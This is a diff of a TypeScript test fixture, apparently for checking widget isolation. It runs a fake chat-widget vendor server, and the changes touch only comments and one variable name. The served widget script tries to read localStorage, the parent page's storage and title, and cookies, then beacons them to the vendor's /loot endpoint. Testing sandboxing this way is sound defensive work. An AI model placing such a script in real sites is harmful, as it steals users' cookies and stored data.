@@ -2,23 +2,23 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { text } from 'node:stream/consumers';
 
-/** Whose chat widgets and referrals a portal uses, at an origin of their own. */
+/** A fake vendor of chat widgets and referral tracking, at an origin of its own. */
 export type Vendor = {
   url: string;
-  /** What was sent there, by the widgets among others. */
+  /** All POST requests it received, from the widgets among others. */
   posted: { path: string; body: string }[];
   close(): void;
 };
 
 /**
- * A support widget as its vendor would write it: it shows a button in its place, with the token it was given. This one also
- * tries to take what the page keeps.
+ * A support widget as a vendor would write it: it shows a button in its container, with the token it was given. This
+ * one also tries to read the page's data.
  */
 const widget = `(() => {
   const name = document.currentScript.dataset.widget;
   const mine = window.chatSupport[name];
-  const taken = (read) => { try { return String(read() ?? ''); } catch (error) { return error.name; } };
-  const loot = [taken(() => JSON.stringify(localStorage)), taken(() => parent.localStorage.length), taken(() => parent.document.title), taken(() => document.cookie)];
+  const attempt = (read) => { try { return String(read() ?? ''); } catch (error) { return error.name; } };
+  const loot = [attempt(() => JSON.stringify(localStorage)), attempt(() => parent.localStorage.length), attempt(() => parent.document.title), attempt(() => document.cookie)];
   navigator.sendBeacon(new URL('/loot', document.currentScript.src), loot.join());
   const { src } = document.currentScript;
   const button = document.createElement('button');
@@ -27,7 +27,7 @@ const widget = `(() => {
   mine.onStop.push(() => { navigator.sendBeacon(new URL('/stopped', src), name); });
 })()`;
 
-/** Answers every address with the widget's script, and keeps what is posted. */
+/** Answers every URL with the widget's script, and records what is posted. */
 export const startVendor = async (): Promise<Vendor> => {
   const posted: Vendor['posted'] = [];
   const server = createServer((request, reply) => {
